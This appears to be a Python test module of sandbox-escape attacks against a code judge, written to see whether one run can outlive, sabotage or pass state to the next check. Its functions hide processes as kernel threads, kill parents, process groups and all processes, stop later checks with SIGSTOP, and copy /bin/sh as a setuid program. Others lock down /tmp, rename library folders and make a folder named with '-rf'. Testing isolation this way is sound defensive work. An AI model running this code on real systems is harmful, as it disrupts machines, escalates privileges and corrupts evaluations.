"""Outliving the check: processes, signals, and all that could carry state to the next one."""

from hostile.attack import BLOCKED, CRASHED, DENIED, EXCEPTION, MISSING, TIMEOUT, family
from hostile.prelude import *

ONE = ("1c-0-basic",)
HOSTILE, attack = family(verdicts={MISSING}, sandbox=False, checks=(*ONE, "1c-1-basic"))


@attack()
def processes():
    """Leaves processes that nobody may look for, one of which hands on a note by a socket."""
    import socket

    address = f"\0{MARK}"

    def wake():
        os.closerange(0, 256)
        time.sleep(9)  # longer than anybody waits for its end
        for folder in ("/tmp", "/dev/shm", "/var/tmp", FOLDER, HOME, "."):
            attempt(lambda: open(f"{folder}/{MARK}", "x").close())

    def hide():
        os.closerange(0, 4096)
        C.prctl(15, b"kworker/0:1")
        C.prctl(36, 1)
        C.prctl(1, 0)
        os.chdir("/")
        time.sleep(60)

    def serve():
        listener = socket.socket(socket.AF_UNIX)
        listener.bind(address)
        listener.listen()
        time.sleep(60)

    attempt(
        lambda: socket.socket(socket.AF_UNIX).connect(address) or loot("somebody answers"),
        lambda: daemon(wake),
        lambda: daemon(hide),
        lambda: daemon(serve),
    )
    if syscall(56, 0x8000 | 17, 0, 0, 0, 0) == 0 or os.fork() == 0:
        os.setsid()
        time.sleep(60)
        os._exit(0)
    time.sleep(0.1)


@attack()
def spoils_the_next_check():
    """Leaves a daemon that stops whatever its parent's parent starts next."""
    import signal

    server, check = os.getppid(), os.getpid()

    def spoil():
        spared = check, os.getpid()
        for _ in range(30_000):
            try:
                children = open(f"/proc/{server}/task/{server}/children").read().split()
            except OSError:
                children = []
            for child in map(int, children):
                attempt(lambda: child in spared or os.kill(child, signal.SIGSTOP))
            time.sleep(0.001)

    daemon(spoil)
    time.sleep(0.1)


@attack()
def generations():
    """Forks and ends all the time, so that no list of processes is ever up to date."""

    def run():
        started = time.monotonic()
        while time.monotonic() < started + 30:
            if os.fork():
                os._exit(0)
            os.setsid()

    for _ in range(3):
        daemon(run)


@attack(verdicts={TIMEOUT, BLOCKED, EXCEPTION}, seconds=2, checks=ONE)
def stop_the_parent():
    """Stops the process that forked it."""
    os.kill(os.getppid(), 19)
    time.sleep(1)
    raise ValueError("still here")


@attack(verdicts={CRASHED, BLOCKED, EXCEPTION}, seconds=2, checks=ONE)
def kill_the_parent():
    """Kills the process that forked it."""
    os.kill(os.getppid(), 9)
    time.sleep(1)
    raise ValueError("still here")


@attack(verdicts={CRASHED}, seconds=2, checks=ONE)
def kill_its_group():
    """Kills its process group."""
    os.killpg(0, 9)
    time.sleep(1)


@attack(verdicts={CRASHED, EXCEPTION, TIMEOUT}, sandbox=True, seconds=2, checks=ONE)
def kill_everything():
    """Tries to signal, slow and limit the judge, and kills every process that it may."""
    import resource

    same = os.PRIO_PROCESS, JUDGE
    attempt(
        lambda: os.kill(JUDGE, 0) or loot("the judge can be signalled"),
        lambda: os.setpriority(*same, os.getpriority(*same)) or loot("priority"),
        lambda: os.sched_setaffinity(JUDGE, os.sched_getaffinity(JUDGE)) or loot("processors"),
        lambda: resource.prlimit(JUDGE, resource.RLIMIT_NOFILE) and loot("limits"),
    )
    os.kill(-1, 9)
    time.sleep(60)


@attack(verdicts=DENIED, lasting=True, sandbox=True)
def state_in_files():
    """Leaves notes for the next check wherever it may write: files, links, setuid programs, ..."""
    import shutil
    import socket

    home, here = os.environ.get("HOME", "."), os.path.dirname(__file__)
    folders = ".", "..", home, os.path.dirname(home), "/tmp", "/dev/shm", "/var/tmp", "/run/user"
    for folder in (*folders, here):
        attempt(lambda: any(MARK in name for name in os.listdir(folder)) and loot(folder))
    for folder in (*folders, here):
        note = f"{folder}/{MARK}"
        attempt(
            lambda: open(f"{folder}/.{MARK}", "x").close(),
            lambda: os.symlink("/nowhere", note + "1"),
            lambda: os.mkfifo(note + "2"),
            lambda: socket.socket(socket.AF_UNIX).bind(note + "3"),
            lambda: os.makedirs(note + "4/\n\udcff -rf"),
            lambda: os.chmod(note + "4", 0),
            lambda: shutil.copy("/bin/sh", note + "5") and os.chmod(note + "5", 0o6755),
        )


# 1d's optimizer needs imports that make folders
@attack(lasting=True, verdicts=set(), points=4, checks=(*ONE, "1c-1-basic", "1d"))
def state_in_folders_of_imports():
    """Leaves a note for the next check in the folders that imports have made."""
    for top in ("/tmp", "/dev/shm"):
        for folder, _, _ in os.walk(top):
            if os.path.exists(f"{folder}/{MARK}"):
                loot("a note in " + folder)
            if folder not in (top, os.getcwd()):
                attempt(lambda: open(f"{folder}/{MARK}", "x").close())


@attack(lasting=True)
def state_in_the_folders_themselves():
    """Closes /tmp and /dev/shm, leaves notes in their attributes, and slows the server."""
    import signal

    entries = (struct.pack("<HHI", tag, 0, 2**32 - 1) for tag in (1, 4, 32))
    closed = struct.pack("<I", 2) + b"".join(entries)
    if os.getpriority(os.PRIO_PROCESS, 0) > 0 or os.sched_getaffinity(0) == {0}:
        loot("the server is slower")
    for folder in ("/tmp", "/dev/shm"):
        attempt(lambda: os.getxattr(folder, "user.note") and loot("a note at " + folder))
        if not os.stat(folder).st_mode & 0o200:
            loot("no writing in " + folder)
    for folder in ("/tmp", "/dev/shm"):
        attempt(
            lambda: os.setxattr(folder, "user.note", MARK.encode()),
            lambda: os.setxattr(folder, "system.posix_acl_default", closed),
            lambda: os.chmod(folder, 0o500),
        )
    attempt(
        lambda: os.setpriority(os.PRIO_USER, 0, 19),
        lambda: os.sched_setaffinity(os.getppid(), {0}),
        lambda: os.kill(os.getppid(), signal.SIGINT),
    )


@attack(verdicts=DENIED, sandbox=True)
def state_in_moved_folders():
    """Renames the folders above those that it can only read, and puts others in their places."""
    import json

    import torch

    # without a sandbox, what follows would do harm
    attempt(lambda: open(f"{ROOT}/pyproject.toml").close() or loot("no sandbox"))
    files = __file__, json.__file__, torch.__file__, sys.prefix + "/x/y", os.getcwd() + "/x"
    folders = [os.path.dirname(file) for file in files]
    folders += [os.path.dirname(folder) for folder in folders]
    for folder in folders:
        if os.path.exists(f"{folder}/{MARK}"):
            loot("another folder at " + folder)

    def swap(folder):
        os.rename(folder, folder + "2")
        os.mkdir(folder)
        open(f"{folder}/{MARK}", "x").close()

    for folder in folders:
        attempt(lambda: swap(folder))


@attack(verdicts={BLOCKED, MISSING}, sandbox=True)
def state_in_the_kernel():
    """Leaves notes in System V shared memory, message queues of both kinds, and the keyring."""
    mark = MARK.encode()
    if (old := C.shmget(KEY, 16, 0)) >= 0:
        C.shmctl(old, 0, None)
        loot("a note in shared memory")
    if C.syscall(240, mark, os.O_RDWR) >= 0:
        C.syscall(241, mark)
        loot("a message queue")
    if (old := C.msgget(KEY, 0)) >= 0:
        C.msgctl(old, 0, None)
        loot("a System V message queue")
    attempt(
        lambda: libc("shmget", KEY, 16, 0o1666),
        lambda: syscall(240, mark, os.O_RDWR | os.O_CREAT, 0o666, None),
        lambda: libc("msgget", KEY, 0o1666),
        lambda: loot(f"key {syscall(248, b'user', mark, b'note', 4, -2)}"),
    )


@attack()
def state_in_the_process():
    """Leaves notes in the environment, the modules, the working folder and the umask."""
    notes = "note" in os.environ, "note" in sys.modules, hasattr(sys, "note"), os.getcwd() == "/"
    if any(notes) or os.umask(0o777) == 0o777:
        loot("a note in the process")
    os.environ["note"] = sys.note = MARK
    sys.modules["note"] = sys
    os.chdir("/")
    os.nice(5)
